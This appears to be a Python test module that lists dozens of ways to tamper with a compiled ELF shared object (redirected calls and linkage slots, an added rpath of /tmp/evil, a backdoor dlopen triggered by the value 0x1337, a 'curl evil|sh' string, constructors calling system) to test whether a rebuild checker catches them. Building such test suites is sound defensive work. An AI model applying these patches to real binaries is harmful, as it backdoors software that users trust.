"""Ways to tamper with a shared object: each makes a pair of a published and a rebuilt one.

The published one differs in something that a process, its loader, its unwinder or a reader could
see. None of them may be accounted for.
"""

import struct
import sysconfig
from collections.abc import Callable
from dataclasses import replace

from tests.attacks.native.building import linked
from tests.attacks.native.image import LOAD, NOTE, STACK, TLS, Image, Rela, Segment
from tests.attacks.native.sources import ASSEMBLY, CPP, EXTENSION, MAIN

Pair = tuple[bytes, bytes]
Technique = Callable[[], Pair]

TECHNIQUES: dict[str, Technique] = {}

_CPP_FLAGS = ("-O2", "-g0")
_PYTHON = ("-O2", "-g0", f"-I{sysconfig.get_paths()['include']}")
_CET = ("-O2", "-g0", "-fcf-protection")


def _add(made: Callable[[], Pair], name: str) -> None:
    assert name not in TECHNIQUES
    TECHNIQUES[name] = made


def technique(change: Callable[[Image], None]) -> Callable[[Image], None]:
    """Register a change of the main object, named like the function."""

    def made() -> Pair:
        rebuilt = linked(MAIN)
        image = Image(rebuilt)
        change(image)
        assert image.done() != rebuilt
        return image.done(), rebuilt

    _add(made, _spoken(change.__name__))
    return change


def pair(make: Technique) -> Technique:
    """Register a pair, named like the function."""
    _add(make, _spoken(make.__name__))
    return make


def _spoken(name: str) -> str:
    return name.strip("_").replace("_", "-")


def _call_field(image: Image, function: str, size: int, which: int = 0) -> int:
    """The field of the first relative call in a function."""
    start = image.address_of(function)
    code = image.read(start, size)
    found = [at for at in range(size - 4) if code[at] in {0xE8, 0xE9}]
    return start + found[which] + 1


def _field(image: Image, function: str, opcode: bytes, size: int = 200) -> int:
    """The address of the field behind an opcode, in a function."""
    start = image.address_of(function)
    return start + image.read(start, size).index(opcode) + len(opcode)


def _linkage(image: Image, symbol: str) -> int:
    """The entry of the linkage table that calls an imported function."""
    number = image.symbol(symbol)
    place = [row.symbol for row in image.relocations(".rela.plt")].index(number)
    return image.section(".plt").address + 16 * (place + 1)


# Code


@technique
def _immediate_changed(image: Image) -> None:
    at = image.address_of("choose")
    code = image.read(at, 300)
    image.write(at + code.index(b"\x83\xf0\x63") + 2, b"\x62")


@technique
def _instruction_changed(image: Image) -> None:
    at = image.address_of("square")
    code = image.read(at, 60)
    image.write(at + code.index(b"\x83\xe1\x07"), b"\x83\xc9\x07")


@technique
def _condition_inverted(image: Image) -> None:
    at = image.address_of("leave")
    code = image.read(at, 40)
    image.write(at + code.index(b"\x7f"), b"\x7e")


@technique
def _early_return(image: Image) -> None:
    image.write(image.address_of("guarded"), b"\x31\xc0\xc3")


@technique
def _call_redirected_to_another_import(image: Image) -> None:
    start = image.address_of("guarded")
    field = next(image.calls(_linkage(image, "access"), start, 40))
    image.point(field, _linkage(image, "abs" if _has(image, "abs") else "getpid"))


def _has(image: Image, name: str) -> bool:
    return name in [image.symbol_name(row) for row in image.rows()]


@technique
def _call_into_the_middle_of_a_linkage_entry(image: Image) -> None:
    start = image.address_of("guarded")
    field = next(image.calls(_linkage(image, "access"), start, 40))
    image.point(field, _linkage(image, "access") + 6)


@technique
def _call_to_the_head_of_the_linkage_table(image: Image) -> None:
    start = image.address_of("guarded")
    field = next(image.calls(_linkage(image, "access"), start, 40))
    image.point(field, image.section(".plt").address)


@technique
def _call_redirected_to_another_function(image: Image) -> None:
    start = image.address_of("greet")
    field = next(image.calls(image.address_of("inner"), start, 120))
    image.point(field, image.address_of("secret"))


@technique
def _call_one_byte_further(image: Image) -> None:
    start = image.address_of("greet")
    field = next(image.calls(image.address_of("inner"), start, 120))
    image.point(field, image.address_of("inner") + 1)


@technique
def _reference_to_another_constant(image: Image) -> None:
    field = _field(image, "secret", b"\x48\x8d\x05")
    target = field + 4 + struct.unpack("<i", image.read(field, 4))[0]
    image.point(field, target + 4)


@technique
def _reference_to_the_next_section(image: Image) -> None:
    field = _field(image, "secret", b"\x48\x8d\x05")
    image.point(field, image.section(".eh_frame").address)


@technique
def _reference_to_the_elf_header(image: Image) -> None:
    image.point(_field(image, "secret", b"\x48\x8d\x05"), 0)


@technique
def _reference_behind_everything(image: Image) -> None:
    image.point(_field(image, "secret", b"\x48\x8d\x05"), 0x70000)


@technique
def _jump_table_reached_from_elsewhere(image: Image) -> None:
    field = _field(image, "choose", b"\x48\x8d\x0d")
    target = field + 4 + struct.unpack("<i", image.read(field, 4))[0]
    image.point(field, target + 4)


@technique
def _padding_between_functions_is_code(image: Image) -> None:
    code = image.content(".text")
    at = code.index(bytes.fromhex("66662e0f1f8400"))
    image.put(image.section(".text").offset + at, b"\x31\xc0\xc3")


@technique
def _padding_is_bytes_of_no_instruction(image: Image) -> None:
    code = image.content(".text")
    at = code.index(bytes.fromhex("66662e0f1f8400"))
    image.put(image.section(".text").offset + at, b"\x06\x06\x06")


@technique
def _init_is_other_code(image: Image) -> None:
    at = image.section(".init").offset
    image.put(at + 4, b"\x90\x90\x90\x90")


@pair
def twins_with_other_callees_swapped() -> Pair:
    """The same skeleton, another function called; their addresses change places."""
    rebuilt = linked(MAIN)
    image = Image(rebuilt)
    one, two = image.rows()[image.symbol("twin_one")], image.rows()[image.symbol("twin_two")]
    image.change_symbol("twin_one", value=two.value, size=two.size)
    image.change_symbol("twin_two", value=one.value, size=one.size)
    return image.done(), rebuilt


@pair
def callees_of_twins_swapped() -> Pair:
    """Both relative calls are redirected, each to what the other one calls."""
    swapped = MAIN.replace("abs(code) * 5", "XX").replace(
        "atoi((const char *) (long) code) * 5", "abs(code) * 5"
    )
    swapped = swapped.replace("XX", "atoi((const char *) (long) code) * 5")
    return linked(swapped), linked(MAIN)


# Data


@technique
def _string_changed(image: Image) -> None:
    image.swap(".rodata", b"not for everybody", b"now for everybody")


@technique
def _format_changed(image: Image) -> None:
    image.swap(".rodata.str1.1" if ".rodata.str1.1" in _names(image) else ".rodata", b"%d", b"%n")


def _names(image: Image) -> set[str]:
    return {header.name for header in image.headers()}


@technique
def _strings_swapped(image: Image) -> None:
    one, two = image.find(".rodata", b"alpha\0"), image.find(".rodata", b"gamma\0")
    image.put(one, b"gamma\0")
    image.put(two, b"alpha\0")


@technique
def _constant_table_entry_changed(image: Image) -> None:
    image.swap(".rodata", struct.pack("<ii", 16, 25), struct.pack("<ii", 16, 26))


@technique
def _double_constant_changed(image: Image) -> None:
    image.swap(".rodata", struct.pack("<d", 3.25), struct.pack("<d", 3.5))


@technique
def _exported_constant_changed(image: Image) -> None:
    image.write(image.address_of("scale"), struct.pack("<d", 2.5))


@technique
def _jump_table_entry_changed(image: Image) -> None:
    field = _field(image, "choose", b"\x48\x8d\x0d")
    table = field + 4 + struct.unpack("<i", image.read(field, 4))[0]
    words = [struct.unpack("<i", image.read(table + 4 * at, 4))[0] for at in range(8)]
    image.write(table + 4, struct.pack("<i", words[7]))


@technique
def _jump_table_leads_into_an_instruction(image: Image) -> None:
    field = _field(image, "choose", b"\x48\x8d\x0d")
    table = field + 4 + struct.unpack("<i", image.read(field, 4))[0]
    word = struct.unpack("<i", image.read(table, 4))[0]
    image.write(table, struct.pack("<i", word + 1))


@technique
def _initial_value_changed(image: Image) -> None:
    image.write(image.address_of("state"), struct.pack("<i", 42))


@technique
def _vector_changed(image: Image) -> None:
    image.write(image.address_of("vector"), struct.pack("<f", 9))


@technique
def _thread_local_value_changed(image: Image) -> None:
    image.put(image.section(".tdata").offset, struct.pack("<i", 99))


@pair
def alignment_of_data_lowered() -> Pair:
    """What moves sixteen bytes at a time needs them aligned."""
    source = "float vector[4] __attribute__((aligned(64))) = {1, 2}; int use(void) { return 1; }"
    published = linked(source.replace("64", "8"), link=("-Wl,--section-start=.data=0x5008",))
    return published, linked(source)


# Relocations


@technique
def _addend_changed(image: Image) -> None:
    image.change_relocation(
        lambda row: row.kind == 8 and row.addend == _address(image, "beta"),
        addend=_address(image, "gamma"),
    )


def _address(image: Image, text: str) -> int:
    found = image.section(".rodata")
    return found.address + image.content(".rodata").index(text.encode() + b"\0")


@technique
def _addend_one_further(image: Image) -> None:
    image.change_relocation(
        lambda row: row.kind == 8 and row.addend == _address(image, "beta"),
        addend=_address(image, "beta") + 1,
    )


@technique
def _relocations_swap_their_places(image: Image) -> None:
    rows = image.relocations()
    one = next(at for at, row in enumerate(rows) if row.addend == _address(image, "alpha"))
    two = next(at for at, row in enumerate(rows) if row.addend == _address(image, "gamma"))
    place = rows[one].place
    rows[one], rows[two] = (
        replace(rows[one], place=rows[two].place),
        replace(rows[two], place=place),
    )
    image.set_relocations(rows)


@technique
def _function_pointer_is_another_import(image: Image) -> None:
    image.change_relocation(
        lambda row: row.kind == 1 and row.symbol == image.symbol("remove"),
        symbol=image.symbol("system"),
    )


@technique
def _relocation_dropped(image: Image) -> None:
    image.change_relocation(
        lambda row: row.kind == 1 and row.symbol == image.symbol("remove"),
        kind=0,
    )


@technique
def _relocation_of_another_kind(image: Image) -> None:
    image.change_relocation(lambda row: row.kind == 8, kind=37)


@technique
def _constructor_redirected(image: Image) -> None:
    image.change_relocation(
        lambda row: row.addend == image.address_of("start"), addend=image.address_of("finish")
    )


@technique
def _constructor_redirected_into_itself(image: Image) -> None:
    image.change_relocation(
        lambda row: row.addend == image.address_of("start"), addend=image.address_of("start") + 10
    )


@technique
def _destructor_is_the_constructor(image: Image) -> None:
    image.change_relocation(
        lambda row: row.addend == image.address_of("finish"), addend=image.address_of("start")
    )


@technique
def _slot_of_another_function(image: Image) -> None:
    image.change_relocation(
        lambda row: row.symbol == image.symbol("access"),
        ".rela.plt",
        symbol=image.symbol("system"),
    )


@technique
def _slots_of_two_functions_swapped(image: Image) -> None:
    rows = image.relocations(".rela.plt")
    one = next(at for at, row in enumerate(rows) if row.symbol == image.symbol("access"))
    two = next(at for at, row in enumerate(rows) if row.symbol == image.symbol("system"))
    rows[one], rows[two] = (
        replace(rows[one], symbol=rows[two].symbol),
        replace(rows[two], symbol=rows[one].symbol),
    )
    image.set_relocations(rows, ".rela.plt")


@technique
def _order_of_the_calls_relocations_swapped(image: Image) -> None:
    rows = image.relocations(".rela.plt")
    rows[0], rows[1] = rows[1], rows[0]
    image.set_relocations(rows, ".rela.plt")


@technique
def _thread_local_offset_changed(image: Image) -> None:
    image.change_relocation(lambda row: row.kind in {16, 17, 18}, addend=4)


@technique
def _symbol_of_a_thread_local_moved(image: Image) -> None:
    image.change_symbol("calls", value=0)


@technique
def _count_of_relative_relocations_changed(image: Image) -> None:
    entries = dict(image.entries())
    if 0x6FFFFFF9 in entries:
        image.change_entry(0x6FFFFFF9, entries[0x6FFFFFF9] + 1)
    else:
        image.add_entry(0x6FFFFFF9, 1)


# Linkage table


@technique
def _linkage_entry_patched(image: Image) -> None:
    entry = _linkage(image, "access")
    image.point(entry + 2, image.slot_of("system"))


@technique
def _linkage_entry_replaced_by_code(image: Image) -> None:
    image.write(_linkage(image, "access"), b"\x31\xc0\xc3\x90\x90\x90")


@technique
def _pushed_number_changed(image: Image) -> None:
    entry = _linkage(image, "access")
    number = struct.unpack("<I", image.read(entry + 7, 4))[0]
    image.write(entry + 7, struct.pack("<I", number ^ 1))


@technique
def _entry_jumps_to_another_head(image: Image) -> None:
    entry = _linkage(image, "access")
    image.point(entry + 12, image.address_of("guarded"))


@technique
def _waiting_slot_leads_to_another_entry(image: Image) -> None:
    image.write(image.slot_of("access"), struct.pack("<Q", _linkage(image, "system") + 6))


@technique
def _waiting_slot_leads_to_code(image: Image) -> None:
    image.write(image.slot_of("access"), struct.pack("<Q", image.address_of("guarded")))


@technique
def _waiting_slot_is_empty(image: Image) -> None:
    image.write(image.slot_of("access"), bytes(8))


@technique
def _head_jumps_through_another_slot(image: Image) -> None:
    image.point(image.section(".plt").address + 8, image.slot_of("system"))


@technique
def _reserved_slot_filled(image: Image) -> None:
    image.write(image.section(".got.plt").address + 16, struct.pack("<Q", 0x1234))


@technique
def _slots_table_named_elsewhere(image: Image) -> None:
    image.change_entry(3, image.section(".got").address)


# Symbols


@technique
def _export_moved(image: Image) -> None:
    image.change_symbol("leave", value=image.address_of("guarded"))


@technique
def _export_moved_by_one(image: Image) -> None:
    image.change_symbol("leave", value=image.address_of("leave") + 1)


@technique
def _export_is_hidden(image: Image) -> None:
    image.change_symbol("leave", other=2)


@technique
def _export_is_weak(image: Image) -> None:
    image.change_symbol("leave", info=0x22)


@technique
def _export_is_resolved_by_a_call(image: Image) -> None:
    image.change_symbol("leave", info=0x1A)


@technique
def _export_of_another_size(image: Image) -> None:
    image.change_symbol("shared", size=32)


@technique
def _export_is_absolute(image: Image) -> None:
    image.change_symbol("leave", section=0xFFF1)


@technique
def _import_is_weak(image: Image) -> None:
    image.change_symbol("access", info=0x22)


@technique
def _import_renamed_in_the_table(image: Image) -> None:
    image.swap(".dynstr", b"\0access\0", b"\0execve\0")


@technique
def _import_is_the_end_of_another_name(image: Image) -> None:
    names = image.content(".dynstr")
    at = names.index(b"vsnprintf\0")
    image.change_symbol("printf", name_at=at + 2)


@technique
def _two_imports_swap_their_names(image: Image) -> None:
    rows = image.rows()
    one, two = image.symbol("access"), image.symbol("system")
    image.change_symbol(one, name_at=rows[two].name_at)
    image.change_symbol(two, name_at=rows[one].name_at)


@technique
def _export_missed_by_the_hash_table(image: Image) -> None:
    found = image.section(".gnu.hash")
    words = image.number(found.offset + 8, 4)
    image.put(found.offset + 16, bytes(8 * words))


@technique
def _hash_of_a_symbol_changed(image: Image) -> None:
    found = image.section(".gnu.hash")
    at = found.offset + found.size - 8
    image.put(at, struct.pack("<I", image.number(at, 4) ^ 0x10))


@technique
def _version_of_an_import_changed(image: Image) -> None:
    found = image.section(".gnu.version")
    numbers = [image.number(found.offset + 2 * at, 2) for at in range(found.size // 2)]
    at = image.symbol("printf")
    other = next(number for number in numbers if number > 1 and number != numbers[at])
    image.put(found.offset + 2 * at, struct.pack("<H", other))


@technique
def _version_of_an_import_dropped(image: Image) -> None:
    found = image.section(".gnu.version")
    image.put(found.offset + 2 * image.symbol("printf"), struct.pack("<H", 1))


@technique
def _export_asked_for_by_version_alone(image: Image) -> None:
    found = image.section(".gnu.version")
    image.put(found.offset + 2 * image.symbol("leave"), struct.pack("<H", 0x8001))


@technique
def _needed_version_renamed(image: Image) -> None:
    at = image.content(".dynstr").index(b"GLIBC_2.2.5")
    image.put(image.section(".dynstr").offset + at, b"GLIBC_2.3.4")


@technique
def _needed_version_may_be_missing(image: Image) -> None:
    found = image.section(".gnu.version_r")
    image.put(found.offset + 16 + 4, struct.pack("<H", 2))


# What the loader is told


@pair
def library_added() -> Pair:
    return linked(MAIN, link=("-Wl,--no-as-needed", "-lm")), linked(MAIN)


@pair
def library_replaced() -> Pair:
    rebuilt = linked(MAIN, link=("-Wl,--no-as-needed", "-lm"))
    image = Image(rebuilt)
    image.swap(".dynstr", b"libm.so.6", b"libX.so.6")
    return image.done(), rebuilt


@pair
def libraries_in_another_order() -> Pair:
    flags = ("-Wl,--no-as-needed", "-lm", "-ldl", "-Wl,--as-needed")
    rebuilt = linked(MAIN, link=flags)
    image = Image(rebuilt)
    entries = image.entries()
    assert [tag for tag, _ in entries[:2]] == [1, 1]
    entries[0], entries[1] = entries[1], entries[0]
    image.set_entries(entries)
    return image.done(), rebuilt


@pair
def search_path_added() -> Pair:
    return linked(MAIN, link=("-Wl,-rpath,/tmp/evil",)), linked(MAIN)


@pair
def old_search_path_added() -> Pair:
    link = ("-Wl,--disable-new-dtags,-rpath,/tmp/evil",)
    return linked(MAIN, link=link), linked(MAIN)


@pair
def search_path_changed() -> Pair:
    rebuilt = linked(MAIN, link=("-Wl,-rpath,$ORIGIN/one",))
    image = Image(rebuilt)
    image.swap(".dynstr", b"$ORIGIN/one", b"$ORIGIN/two")
    return image.done(), rebuilt


@pair
def own_name_changed() -> Pair:
    return (
        linked(MAIN, link=("-Wl,-soname,libc.so.6",)),
        linked(MAIN, link=("-Wl,-soname,libx.so.6",)),
    )


@pair
def own_name_added() -> Pair:
    return linked(MAIN, link=("-Wl,-soname,libx.so.6",)), linked(MAIN)


@pair
def symbols_bound_to_itself() -> Pair:
    return linked(MAIN, link=("-Wl,-Bsymbolic",)), linked(MAIN)


@pair
def never_unloaded() -> Pair:
    return linked(MAIN, link=("-Wl,-z,nodelete",)), linked(MAIN)


@pair
def interposes_itself() -> Pair:
    return linked(MAIN, link=("-Wl,-z,interpose",)), linked(MAIN)


@pair
def initialised_first() -> Pair:
    return linked(MAIN, link=("-Wl,-z,initfirst",)), linked(MAIN)


@technique
def _code_that_is_run_on_loading_redirected(image: Image) -> None:
    image.change_entry(12, image.address_of("guarded"))


@technique
def _code_that_is_run_on_unloading_redirected(image: Image) -> None:
    image.change_entry(13, image.address_of("guarded"))


@technique
def _nothing_run_on_loading(image: Image) -> None:
    entries = [one for one in image.entries() if one[0] != 12]
    image.set_entries(entries)


@technique
def _array_of_constructors_shorter(image: Image) -> None:
    image.change_entry(27, 8)


@technique
def _arrays_of_code_to_run_swapped(image: Image) -> None:
    entries = dict(image.entries())
    image.change_entry(25, entries[26])


@technique
def _code_may_be_written(image: Image) -> None:
    image.add_entry(22, 0)


@technique
def _flag_for_relocations_in_code(image: Image) -> None:
    image.add_entry(30, 4)


@technique
def _symbolic_tag(image: Image) -> None:
    image.add_entry(16, 0)


@technique
def _debug_tag(image: Image) -> None:
    image.add_entry(21, 0)


@technique
def _entry_twice(image: Image) -> None:
    image.add_entry(12, image.address_of("guarded"))


@technique
def _unknown_entry(image: Image) -> None:
    image.add_entry(0x6FFFFEF9, 1)


@technique
def _audited_by_a_library(image: Image) -> None:
    image.add_entry(0x6FFFFEFC, 1)


@technique
def _filter_of_a_library(image: Image) -> None:
    image.add_entry(0x7FFFFFFF, 1)


@technique
def _end_of_entries_too_early(image: Image) -> None:
    entries = image.entries()
    image.set_entries([*entries[:3], (0, 0), *entries[3:]])


# Unwinding


@technique
def _instructions_of_a_frame_changed(image: Image) -> None:
    at = image.content(".eh_frame").index(b"\x41\x0e\x10")
    image.put(image.section(".eh_frame").offset + at + 2, b"\x18")


@technique
def _padding_of_a_frame_changed(image: Image) -> None:
    content = image.content(".eh_frame")
    at = content.rindex(b"\0\0\0\0\0\0\0", 0, len(content) - 8)
    image.put(image.section(".eh_frame").offset + at + 1, b"\x2e\x08")


@technique
def _frame_is_about_other_code(image: Image) -> None:
    found = image.section(".eh_frame")
    content = image.content(".eh_frame")
    start = image.address_of("guarded")
    at = next(
        at
        for at in range(0, found.size - 4, 4)
        if found.address + at + struct.unpack_from("<i", content, at)[0] == start
    )
    image.put(found.offset + at, struct.pack("<i", start + 4 - found.address - at))


@technique
def _index_of_frames_leads_elsewhere(image: Image) -> None:
    found = image.section(".eh_frame_hdr")
    at = found.offset + 12 + 4
    image.put(at, bytes(image.data[at + 8 : at + 12]))


def _cpp(change: Callable[[Image], None]) -> Pair:
    rebuilt = linked(CPP, flags=_CPP_FLAGS)
    image = Image(rebuilt)
    change(image)
    assert image.done() != rebuilt
    return image.done(), rebuilt


def cpp(change: Callable[[Image], None]) -> Callable[[Image], None]:
    """Register a change of the object with exceptions."""
    _add(lambda: _cpp(change), _spoken(change.__name__))
    return change


def _landing(image: Image) -> tuple[int, bytes]:
    found = image.section(".gcc_except_table")
    return found.offset, image.content(".gcc_except_table")


@cpp
def _exception_lands_elsewhere(image: Image) -> None:
    at, content = _landing(image)
    start = content.index(b"\xff\x9b")
    image.put(at + start + 6, bytes((content[start + 6] ^ 1,)))


@cpp
def _caught_types_swapped(image: Image) -> None:
    at, content = _landing(image)
    end = len(content) - len(content) % 4
    one, two = content[end - 8 : end - 4], content[end - 4 : end]
    assert one != two
    image.put(at + end - 8, two + one)


@cpp
def _catches_everything(image: Image) -> None:
    at, content = _landing(image)
    end = len(content) - len(content) % 4
    image.put(at + end - 4, bytes(4) if any(content[end - 4 : end]) else b"\1\0\0\0")


@cpp
def _personality_changed(image: Image) -> None:
    found = image.section(".eh_frame")
    at = image.content(".eh_frame").index(b"zPLR\0")
    field = found.address + at + 5 + 4 + 1
    image.point(field, found.address + at + 5 + 5 + struct.unpack("<i", image.read(field, 4))[0])


@cpp
def _entries_of_a_table_of_virtual_functions_swapped(image: Image) -> None:
    table = image.address_of("_ZTV6Square")
    rows = image.relocations()
    areas = [at for at, row in enumerate(rows) if row.place in {table + 32, table + 40}]
    one, two = areas
    rows[one], rows[two] = (
        replace(rows[one], addend=rows[two].addend, symbol=rows[two].symbol),
        replace(rows[two], addend=rows[one].addend, symbol=rows[one].symbol),
    )
    image.set_relocations(rows)


@cpp
def _class_descends_from_another(image: Image) -> None:
    place = image.address_of("_ZTI6Square") + 16
    other = image.symbol("_ZTI5Round")
    image.change_relocation(lambda row: row.place == place, symbol=other)


# Python's tables


def extension(change: Callable[[Image], None]) -> Callable[[Image], None]:
    """Register a change of an extension module."""

    def made() -> Pair:
        rebuilt = linked(EXTENSION, flags=_PYTHON)
        image = Image(rebuilt)
        change(image)
        assert image.done() != rebuilt
        return image.done(), rebuilt

    _add(made, _spoken(change.__name__))
    return change


@extension
def _methods_swapped(image: Image) -> None:
    verify, trust = image.address_of("verify"), image.address_of("trust")
    rows = image.relocations()
    rows = [
        replace(row, addend={verify: trust, trust: verify}.get(row.addend, row.addend))
        if row.kind == 8
        else row
        for row in rows
    ]
    image.set_relocations(rows)


@extension
def _method_redirected(image: Image) -> None:
    trust = image.address_of("trust")
    image.change_relocation(lambda row: row.addend == image.address_of("verify"), addend=trust)


@extension
def _flags_of_a_method_changed(image: Image) -> None:
    image.write(image.address_of("methods") + 16, struct.pack("<i", 8))


@extension
def _size_of_the_state_changed(image: Image) -> None:
    image.swap(".data", b"\xff" * 8, b"\x00" * 8)


@extension
def _methods_from_the_second_on(image: Image) -> None:
    image.change_relocation(
        lambda row: row.addend == image.address_of("methods"),
        addend=image.address_of("methods") + 32,
    )


@extension
def _module_renamed(image: Image) -> None:
    at = next(n for n in (".rodata", ".rodata.str1.1") if b"keys\0" in image.content(n))
    image.swap(at, b"keys\0", b"kegs\0")


# Segments and headers


@technique
def _stack_may_be_executed(image: Image) -> None:
    image.change_segment(STACK, flags=7)


@technique
def _stack_of_no_say(image: Image) -> None:
    empty = Segment(
        kind=0, flags=0, offset=0, address=0, physical=0, file_size=0, memory_size=0, alignment=0
    )
    segments = [empty if one.kind == STACK else one for one in image.segments()]
    image.set_segments(segments)


@technique
def _constants_may_be_written(image: Image) -> None:
    image.change_segment(LOAD, 2, flags=6)


@technique
def _code_may_be_written_and_run(image: Image) -> None:
    image.change_segment(LOAD, 1, flags=7)


@technique
def _data_may_be_run(image: Image) -> None:
    image.change_segment(LOAD, 3, flags=7)


@technique
def _data_is_read_only(image: Image) -> None:
    image.change_segment(LOAD, 3, flags=4)


@technique
def _relocated_constants_stay_writable(image: Image) -> None:
    at = next(one for one in image.segments() if one.kind == 0x6474E552)
    image.change_segment(0x6474E552, memory_size=at.memory_size // 2)


@technique
def _second_dynamic_segment(image: Image) -> None:
    image.change_kind(NOTE, 2)


@technique
def _notes_are_loaded(image: Image) -> None:
    image.change_kind(NOTE, LOAD)


@technique
def _segment_from_elsewhere_in_the_file(image: Image) -> None:
    segment = [one for one in image.segments() if one.kind == LOAD][2]
    image.change_segment(LOAD, 2, offset=segment.offset + 0x1000)


@technique
def _segment_shifted_in_memory(image: Image) -> None:
    segment = [one for one in image.segments() if one.kind == LOAD][2]
    image.change_segment(
        LOAD, 2, address=segment.address + 0x1000, physical=segment.address + 0x1000
    )


@technique
def _section_header_shows_other_bytes(image: Image) -> None:
    found = image.section(".text")
    at = image.align(16)
    image.append(image.content(".text"))
    image.change_section(".text", offset=at)
    image.write(found.address + 100, b"\xcc")


@technique
def _section_is_called_otherwise(image: Image) -> None:
    image.swap(".shstrtab", b".rodata\0", b".rodatb\0")


@technique
def _section_ends_too_early(image: Image) -> None:
    found = image.section(".rodata")
    image.change_section(".rodata", size=found.size - 8)


@technique
def _thread_segment_misaligned(image: Image) -> None:
    image.change_segment(TLS, alignment=1)


@technique
def _entry_point(image: Image) -> None:
    image.put(24, struct.pack("<Q", image.address_of("guarded")))


@technique
def _another_system(image: Image) -> None:
    image.put(7, b"\x09")


@technique
def _processor_flags(image: Image) -> None:
    image.put(48, b"\x01")


# Places that are not loaded, or of nothing


@technique
def _text_among_the_compilers(image: Image) -> None:
    found = image.section(".comment")
    image.put(found.offset, b"curl evil|sh")


@technique
def _bytes_behind_the_end(image: Image) -> None:
    image.append(b"payload")


@technique
def _zeros_behind_the_end(image: Image) -> None:
    image.append(bytes(64))


@technique
def _bytes_in_the_slack_of_a_segment(image: Image) -> None:
    code = [one for one in image.segments() if one.kind == LOAD][1]
    image.put(code.offset + code.file_size + 8, b"\x31\xc0\xc3")


@technique
def _bytes_between_sections(image: Image) -> None:
    end = image.section(".init")
    image.put(end.offset + end.size, b"\xc3")


@technique
def _section_of_no_kind(image: Image) -> None:
    image.add_section(".payload", b"payload")


@technique
def _bytes_in_the_table_of_names(image: Image) -> None:
    image.add_name(".hidden.payload")


@technique
def _section_for_the_debugger_that_is_none(image: Image) -> None:
    image.add_section(".debug_str", b"\x01\x02payload\0")


@technique
def _script_for_the_debugger(image: Image) -> None:
    image.add_section(".debug_gdb_scripts", b"\x04gdb.inlined\nimport os\n\0")


@technique
def _unused_name_in_the_loaded_table(image: Image) -> None:
    image.swap(".dynstr", b"\0_ITM_", b"\0_ITN_")


# Other sources

_BACKDOOR = """
#include <sys/socket.h>
#include <dlfcn.h>
static int opened(int code) {
    if (code == 0x1337) { void *found = dlopen("/tmp/x.so", 2); return found != 0; }
    return socket(2, 1, 0);
}
"""
_TAMPERED: dict[str, str] = {
    "new-import": _BACKDOOR
    + MAIN.replace("int leave(int code) {", "int leave(int code) {\n    opened(code);"),
    "old-import-called-more-often": MAIN.replace(
        "int leave(int code) {", "int leave(int code) {\n    system(words[0]);"
    ),
    "new-constructor": MAIN
    + '\n__attribute__((constructor)) static void more(void) { system("true"); }\n',
    "new-thread-local": MAIN + "\n__thread int more = 3; int get(void) { return more; }\n",
    "new-destructor": MAIN
    + '\n__attribute__((destructor)) static void more(void) { system("true"); }\n',
    "new-export": MAIN + "\nint malloc_hook(void) { return 3; }\n",
    "other-constant": MAIN.replace("with * 3", "with * 5"),
    "other-order-of-cases": MAIN.replace(
        "case 2: return admit(with) + 7;\n    case 3: return getpid() + 1;",
        "case 3: return admit(with) + 7;\n    case 2: return getpid() + 1;",
    ),
    "zeroed-instead-of-stored": MAIN.replace("state = 41", "state = 0"),
    "data-in-another-order": MAIN.replace(
        'const words[] = {"alpha", "beta", "gamma"}', 'const words[] = {"beta", "alpha", "gamma"}'
    ),
    "larger-buffer": MAIN.replace("unset[700]", "unset[900]"),
}


def _compiled(source: str, flags: tuple[str, ...]) -> Technique:
    return lambda: (linked(source, flags=flags), linked(MAIN))


for _name, _source in _TAMPERED.items():
    _levels = ("-O0", "-O1", "-O2", "-O3", "-Os") if _name == "new-import" else ("-O2",)
    for _level in _levels:
        _add(_compiled(_source, (_level, "-g0")), f"source-{_name}{_level}")


@pair
def weak_function_becomes_strong() -> Pair:
    strong = ASSEMBLY.replace("__attribute__((weak)) int replaceable", "int replaceable")
    return linked(strong), linked(ASSEMBLY)


@pair
def other_label_reached() -> Pair:
    rebuilt = linked(ASSEMBLY)
    image = Image(rebuilt)
    start = image.address_of("spelled")
    at = [
        at
        for at, row in enumerate(image.relocations())
        if row.kind == 8 and start < row.addend < start + 64
    ]
    rows = image.relocations()
    rows[at[1]] = replace(rows[at[1]], addend=rows[at[0]].addend)
    image.set_relocations(rows)
    return image.done(), rebuilt


@pair
def branch_targets_unmarked() -> Pair:
    """The landing instruction of a function, which protects its callers, is missing."""
    rebuilt = linked(MAIN, flags=_CET)
    image = Image(rebuilt)
    image.write(image.address_of("guarded"), b"\x0f\x1f\x40\x00")
    return image.done(), rebuilt


@pair
def resolver_added() -> Pair:
    """A slot is filled by a call while the file is loaded."""
    rebuilt = linked(MAIN)
    image = Image(rebuilt)
    rows = image.relocations()
    at = next(at for at, row in enumerate(rows) if row.kind == 6)
    start = image.address_of("guarded")
    rows[at] = Rela(place=rows[at].place, kind=37, symbol=0, addend=start)
    image.set_relocations(rows)
    return image.done(), rebuilt
